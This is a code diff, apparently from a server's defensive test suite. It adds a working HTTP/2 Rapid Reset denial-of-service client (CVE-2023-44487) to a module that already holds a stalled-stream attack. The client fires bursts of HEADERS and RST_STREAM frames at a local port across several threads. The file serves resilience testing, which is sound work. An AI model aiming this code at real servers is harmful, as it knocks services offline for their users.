@@ -6,6 +6,10 @@ announcing a message it never finishes sending (no END_STREAM). It answers the s
 and keepalive PINGs, as a patient attacker would, so the server has no protocol reason to drop
 it. Plaintext, or TLS with a client certificate (the attacker holds one of the federation's
 certificates, not necessarily its token).
+
+`RapidReset` is the other HTTP/2 attack on a server's streams (CVE-2023-44487): it opens a call
+and cancels it at once (HEADERS, then RST_STREAM), as fast as the socket takes them, so the
+server keeps starting work that is already cancelled. Plaintext.
 """
 
 from __future__ import annotations
@@ -19,7 +23,7 @@ import threading
 from pathlib import Path
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x4, 0x6, 0x7
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
 END_HEADERS, ACK = 0x4, 0x1
 
 
@@ -122,7 +126,7 @@ class StalledConnection:
                         self._send(_frame(PING, ACK, 0, payload))
                     elif kind == GOAWAY:
                         self.goaway = True
-                    elif kind == 0x3:
+                    elif kind == RST_STREAM:
                         self.resets += 1
         except (OSError, ValueError):  # ValueError: select on the socket close() closed
             pass
@@ -170,3 +174,65 @@ class Attack:
     def __exit__(self, *exc: object) -> None:
         for c in self.connections:
             c.close()
+
+
+class RapidReset:
+    """`connections` threads, each on its own connection, opening and at once cancelling calls of
+    `method` until close(); `sent` counts the calls, `cut` the connections the server closed."""
+
+    BURST = 100  # calls per write
+
+    def __init__(self, port: int, method: str, connections: int = 2) -> None:
+        block = _literal(":method", "POST") + _literal(":scheme", "http")
+        block += _literal(":path", method) + _literal(":authority", "localhost")
+        block += _literal("content-type", "application/grpc") + _literal("te", "trailers")
+        self._block = block
+        self._port = port
+        self._stop = threading.Event()
+        self._lock = threading.Lock()
+        self.sent = 0
+        self.cut = 0
+        self._threads = [
+            threading.Thread(target=self._run, daemon=True) for _ in range(connections)
+        ]
+        for t in self._threads:
+            t.start()
+
+    def _run(self) -> None:
+        cancel = struct.pack(">I", 0x8)  # CANCEL
+        with socket.create_connection(("127.0.0.1", self._port), timeout=10) as sock:
+            sock.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
+            stream = 1
+            try:
+                while not self._stop.is_set():
+                    burst = b"".join(
+                        _frame(HEADERS, END_HEADERS, s, self._block)
+                        + _frame(RST_STREAM, 0, s, cancel)
+                        for s in range(stream, stream + 2 * self.BURST, 2)
+                    )
+                    stream += 2 * self.BURST
+                    sock.sendall(burst)
+                    with self._lock:
+                        self.sent += self.BURST
+                    self._drain(sock)
+            except OSError:  # the server closed the connection: a defence, not an error here
+                with self._lock:
+                    self.cut += 1
+
+    @staticmethod
+    def _drain(sock: socket.socket) -> None:
+        """Read what the server sent (its answers would otherwise fill the window and block)."""
+        while select.select([sock], [], [], 0)[0]:
+            if not sock.recv(1 << 20):
+                raise ConnectionResetError("closed by the server")
+
+    def close(self) -> None:
+        self._stop.set()
+        for t in self._threads:
+            t.join(15)
+
+    def __enter__(self) -> RapidReset:
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.close()
